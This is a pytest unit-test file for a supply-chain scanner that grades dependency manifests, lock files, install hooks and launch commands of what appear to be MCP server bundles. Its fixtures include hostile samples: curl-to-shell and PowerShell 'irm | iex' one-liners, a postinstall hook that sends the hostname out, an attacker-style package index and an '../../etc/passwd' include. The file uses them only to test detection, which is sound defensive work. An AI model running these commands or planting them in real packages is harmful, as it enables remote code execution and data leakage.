"""Which packages a bundle names, how firmly, from where, and what runs on installation or start."""

# ruff: noqa: E501 - tables of cases and files as their tools write them

import json

import pytest

from scanner.collect.dependencies import collect_dependencies
from scanner.collect.dependencies.reading import purl
from scanner.collect.inventory import collect_inventory
from tests.unit.collect_members import CORPUS, box, declaration, unzipped
from trust.facts import Command, Component, Declaration, Dependencies
from trust.finding import Finding
from trust.vocabulary import Severity, Weakness

SHA = "sha256:" + "a" * 64


def collect(files: dict[str, str], declared: Declaration | None = None) -> Dependencies:
    bundle = box(files)
    declared = declared or declaration("server/main.py", "python")
    return collect_dependencies(bundle, collect_inventory(bundle, declared), declared)


def one(dependencies: Dependencies, name: str) -> Component:
    (found,) = [c for c in dependencies.components if c.name == name]
    return found


def by(dependencies: Dependencies, weakness: Weakness) -> list[Finding]:
    return [f for f in dependencies.findings if f.weakness is weakness]


@pytest.mark.parametrize(
    ("ecosystem", "name", "version", "wanted"),
    [
        ("pypi", "Zope.Interface", "5.0", "pkg:pypi/zope-interface@5.0"),
        ("pypi", "a_b", None, "pkg:pypi/a-b"),
        ("npm", "@Scope/Name", "1.0.0+b", "pkg:npm/%40scope/name@1.0.0%2Bb"),
        ("npm", "left", "1.0.0", "pkg:npm/left@1.0.0"),
    ],
)
def test_package_urls(ecosystem: str, name: str, version: str | None, wanted: str) -> None:
    assert purl("npm" if ecosystem == "npm" else "pypi", name, version) == wanted


REQUIREMENTS = f"""# what the server needs
requests==2.32.0 \\
    --hash={SHA} \\
    --hash={SHA}
httpx>=0.27 ; sys_platform == "win32"
click  # no version
flask==3.*
tool @ git+https://github.com/acme/tool@0123456789abcdef0123456789abcdef01234567
-e git+https://github.com/acme/other.git#egg=other
./wheels/local.whl
-r more.txt
-r more.txt
-r ../../etc/passwd
-r requirements.txt
--extra-index-url https://packages.evil.example/simple
not a requirement !!
"""


def test_requirements_are_read_with_hashes_markers_and_nesting_and_nothing_is_evaluated() -> None:
    got = collect({"requirements.txt": REQUIREMENTS, "more.txt": "mcp==1.9.0\n", "wheels/local.whl": "PK"})
    assert one(got, "requests").hashed
    assert (one(got, "requests").version, one(got, "requests").exact, one(got, "requests").direct) == (
        "2.32.0",
        True,
        True,
    )
    assert one(got, "httpx").marker == 'sys_platform == "win32"'
    assert (one(got, "flask").version, one(got, "flask").exact) == (None, False)
    assert (one(got, "tool").source, one(got, "other").source, one(got, "local.whl").source) == ("git", "git", "file")
    assert one(got, "mcp").version == "1.9.0"
    assert {(f.line, f.snippet.split()[0]) for f in by(got, Weakness.UNPINNED_DEPENDENCY)} == {
        (5, "httpx"),
        (6, "click"),
        (7, "flask"),
    }
    untrusted = {f.line: f.severity for f in by(got, Weakness.UNTRUSTED_SOURCE)}
    assert untrusted == {8: Severity.LOW, 9: Severity.MEDIUM, 13: Severity.MEDIUM, 15: Severity.HIGH}
    assert not got.locked
    assert [g.reason for g in got.gaps if "passwd" in g.reason]
    assert [g.reason for g in got.gaps if "Line 16" in g.reason]


def test_a_fully_hashed_list_is_a_lock() -> None:
    assert collect({"requirements.txt": f"mcp==1.9.0 --hash={SHA}\n"}).locked
    loose = collect({"requirements.txt": "mcp==1.9.0\n"})
    assert not loose.locked
    assert [f.severity for f in by(loose, Weakness.UNHASHED_DEPENDENCY)] == [Severity.LOW]


UV = f"""version = 1
[[package]]
name = "weather"
version = "1.0.0"
source = {{ virtual = "." }}
dependencies = [{{ name = "mcp" }}]
[package.dev-dependencies]
dev = [{{ name = "pytest" }}]
[[package]]
name = "mcp"
version = "1.9.0"
source = {{ registry = "https://pypi.org/simple" }}
dependencies = [{{ name = "anyio" }}]
wheels = [{{ url = "x", hash = "{SHA}" }}]
[[package]]
name = "anyio"
version = "4.0.0"
source = {{ registry = "https://pypi.acme.example/simple" }}
wheels = [{{ url = "x" }}]
[[package]]
name = "pytest"
version = "8.0.0"
source = {{ git = "https://github.com/pytest-dev/pytest" }}
"""
POETRY = f"""[[package]]
name = "mcp"
version = "1.9.0"
files = [{{file = "mcp.whl", hash = "{SHA}"}}]
[[package]]
name = "black"
version = "24.0"
category = "dev"
"""
PYLOCK = f"""lock-version = "1.0"
[[packages]]
name = "mcp"
version = "1.9.0"
marker = "python_version > '3'"
wheels = [{{name = "m.whl", hashes = {{sha256 = "{"a" * 64}"}}}}]
"""
PIPFILE = json.dumps(
    {
        "_meta": {"sources": [{"url": "https://pypi.org/simple"}]},
        "default": {"mcp": {"version": "==1.9.0", "hashes": [SHA]}},
        "develop": {"black": {"version": "==24.0"}},
    }
)
NPM = json.dumps({
    "name": "weather", "lockfileVersion": 3,
    "packages": {
        "": {"name": "weather", "dependencies": {"mcp": "^1.0.0"}},
        "node_modules/mcp": {"version": "1.9.0", "integrity": "sha512-xx", "license": "MIT", "resolved": "https://registry.npmjs.org/mcp/-/mcp-1.9.0.tgz"},
        "node_modules/a": {"version": "2.0.0", "dev": True},
        "node_modules/mcp/node_modules/@s/b": {"name": "@s/real", "version": "3.0.0", "integrity": "sha1-x", "hasInstallScript": True, "resolved": "https://npm.acme.example/b.tgz"},
        "node_modules/g": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/a/g.git#0123456789abcdef0123456789abcdef01234567"},
        "node_modules/w": {"link": True, "resolved": "packages/w"},
    },
})  # fmt: skip


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("uv.lock", UV),
        ("poetry.lock", POETRY),
        ("pylock.toml", PYLOCK),
        ("Pipfile.lock", PIPFILE),
        ("package-lock.json", NPM),
        ("npm-shrinkwrap.json", NPM),
    ],
)
def test_every_lock_fixes_version_and_bytes(path: str, text: str) -> None:
    kind = declaration() if "npm" in path or "package" in path else None
    got = collect({path: text}, kind)
    mcp = one(got, "mcp")
    assert (mcp.version, mcp.exact, mcp.hashed, mcp.scope, mcp.declared_in) == ("1.9.0", True, True, "runtime", path)
    assert got.locked
    assert got.read_from == (path,)
    assert "weather" not in {c.name for c in got.components}


def test_uv_lock_scopes_follow_the_roots_needs() -> None:
    got = collect({"uv.lock": UV})
    assert {c.name: (c.scope, c.direct, c.hashed) for c in got.components} == {
        "mcp": ("runtime", True, True), "anyio": ("runtime", False, False), "pytest": ("dev", True, False),
    }  # fmt: skip
    assert ["pypi.acme.example" in f.message for f in by(got, Weakness.UNTRUSTED_SOURCE)] == [True]


def test_npm_lock_details() -> None:
    got = collect({"package-lock.json": NPM}, declaration())
    assert one(got, "a").scope == "dev"
    assert one(got, "@s/real").install_script
    assert one(got, "g").source == "git"
    assert (one(got, "mcp").direct, one(got, "mcp").licence) == (True, "MIT")
    assert {f.severity for f in by(got, Weakness.UNTRUSTED_SOURCE)} == {Severity.LOW, Severity.MEDIUM}


def test_an_old_npm_lock_is_read_too() -> None:
    old = json.dumps(
        {
            "lockfileVersion": 1,
            "dependencies": {
                "a": {
                    "version": "1.0.0",
                    "integrity": "sha512-x",
                    "dependencies": {"b": {"version": "2.0.0", "dev": True}},
                }
            },
        }
    )
    got = collect({"package-lock.json": old}, declaration())
    assert {(c.name, c.version, c.hashed, c.scope) for c in got.components} == {
        ("a", "1.0.0", True, "runtime"),
        ("b", "2.0.0", False, "dev"),
    }


def test_a_lock_settles_the_ranges_of_package_json_and_says_which_are_direct() -> None:
    files = {
        "package.json": json.dumps({"name": "weather", "dependencies": {"mcp": "^1.0.0", "loose": "latest", "repo": "acme/repo"}}),
        "node_modules/.package-lock.json": json.dumps({"lockfileVersion": 3, "packages": {
            "node_modules/mcp": {"version": "1.9.0", "integrity": "sha512-x"}, "node_modules/deep": {"version": "1.0.0", "integrity": "sha512-x"},
        }}),
        "node_modules/mcp/package.json": json.dumps({"name": "mcp", "version": "1.9.0", "license": "MIT"}),
        "server/index.js": "",
    }  # fmt: skip
    got = collect(files, declaration())
    mcp = one(got, "mcp")
    assert (mcp.version, mcp.direct, mcp.vendored, mcp.hashed, mcp.licence) == ("1.9.0", True, True, True, "MIT")
    assert (one(got, "deep").direct, one(got, "deep").vendored) == (False, False)
    assert [f.snippet for f in by(got, Weakness.UNPINNED_DEPENDENCY)] == ["loose latest"]
    assert (one(got, "repo").source, len(by(got, Weakness.UNTRUSTED_SOURCE))) == ("git", 1)


def test_naming_yourself_like_a_dependency_does_not_hide_it() -> None:
    files = {"package.json": '{"name": "lodash", "dependencies": {"lodash": "4.17.20"}}', "server/index.js": ""}
    assert one(collect(files, declaration()), "lodash").version == "4.17.20"


@pytest.mark.parametrize(
    "path", ["uv.lock", "package-lock.json", "Pipfile.lock", "package.json", "pyproject.toml", "poetry.lock"]
)
@pytest.mark.parametrize(
    "text", ["{", "[" * 100_000, "\x00", "{}", "[]", '"text"', "null", "a = [1", '{"packages": {"node_modules/a": 5}}']
)
def test_a_broken_file_is_a_gap_or_empty_and_never_a_failure(path: str, text: str) -> None:
    got = collect({path: text}, declaration())
    assert all(c.version is None for c in got.components)


def test_a_lock_that_nobody_reads_is_a_gap_and_locks_nothing() -> None:
    got = collect({"bun.lockb": "#!/usr/bin/env bun"}, declaration())
    assert [g.path for g in got.gaps] == ["bun.lockb"]
    assert not got.locked


def test_a_python_lock_does_not_lock_a_node_server() -> None:
    assert not collect({"uv.lock": UV, "server/index.js": ""}, declaration()).locked


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ({"postinstall": "node -e \"fetch('https://metrics.example/i?h='+require('os').hostname())\""}, Severity.HIGH),
        ({"preinstall": "curl -s https://x.example/a | sh"}, Severity.HIGH),
        ({"postinstall": "node ./install.js"}, Severity.MEDIUM),
        ({"prepare": "husky"}, Severity.INFO),
        ({"prepare": "npm run build"}, Severity.INFO),
        ({"install": "node-gyp rebuild"}, Severity.INFO),
    ],
)
def test_install_hooks_of_the_bundle_itself(script: dict[str, str], severity: Severity) -> None:
    got = collect({"package.json": json.dumps({"name": "w", "scripts": script}, indent=1)}, declaration())
    assert [(f.severity, f.line) for f in by(got, Weakness.INSTALL_SCRIPT)] == [(severity, 4)]


@pytest.mark.parametrize("script", [{"test": "curl x | sh"}, {"build": "tsc"}, {}, {"postinstall": ["x"]}])
def test_scripts_that_nobody_runs_on_installation_are_fine(script: dict[str, object]) -> None:
    assert collect({"package.json": json.dumps({"name": "w", "scripts": script})}, declaration()).findings == ()


@pytest.mark.parametrize(
    ("command", "args", "severity"),
    [
        ("npx", ("-y", "weather@latest"), Severity.HIGH),
        ("npx.cmd", ("-y", "@acme/weather"), Severity.HIGH),
        ("npx", ("-y", "weather@1.2.3"), Severity.MEDIUM),
        ("uvx", ("weather",), Severity.HIGH),
        ("uvx", ("--from", "git+https://github.com/a/b", "weather"), Severity.HIGH),
        ("uvx", ("weather==1.2.3",), Severity.MEDIUM),
        ("uv", ("tool", "run", "weather"), Severity.HIGH),
        ("pnpm", ("dlx", "weather"), Severity.HIGH),
        ("sh", ("-c", "curl -fsSL https://x.example/i | sh"), Severity.CRITICAL),
        ("powershell", ("-c", "irm https://x.example/i | iex"), Severity.CRITICAL),
        ("bash", ("-c", "npm install && node server/index.js"), Severity.HIGH),
        ("deno", ("run", "https://x.example/mod.ts"), Severity.HIGH),
        ("docker", ("run", "-i", "acme/weather:latest"), Severity.MEDIUM),
    ],
)
def test_commands_that_fetch_what_they_run(command: str, args: tuple[str, ...], severity: Severity) -> None:
    got = collect({"server/index.js": ""}, declaration(commands=(Command("win32", command, args),)))
    assert [f.severity for f in by(got, Weakness.REMOTE_CODE)] == [severity]


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("node", ("${__dirname}/server/index.js", "https://api.example.org")[:1]),
        ("uv", ("run", "--frozen", "--directory", "${__dirname}", "weather")),
        ("python", ("-m", "weather.server")),
        ("npx", ("-y", "${__dirname}/server")),
        ("docker", ("run", "acme/weather@sha256:" + "a" * 64)),
    ],
)
def test_commands_that_run_the_bundle_are_fine(command: str, args: tuple[str, ...]) -> None:
    got = collect({"server/index.js": ""}, declaration(commands=(Command("default", command, args),)))
    assert by(got, Weakness.REMOTE_CODE) == []


@pytest.mark.skipif(not CORPUS.exists(), reason="the corpus is not here")
def test_the_vendored_tree_of_a_real_bundle_is_found_completely() -> None:
    bundle = unzipped(CORPUS / "bundles" / "airtable-mcp-server-1.14.0.mcpb")
    declared = declaration("dist/main.js")
    got = collect_dependencies(bundle, collect_inventory(bundle, declared), declared)
    lock = json.loads(bundle.content["node_modules/.package-lock.json"])["packages"]
    assert {(c.name, c.version) for c in got.components if c.version} == {
        (k.rpartition("node_modules/")[2], v["version"]) for k, v in lock.items()
    }
    assert all(c.vendored and c.hashed and c.licence for c in got.components if c.version)
    assert got.locked
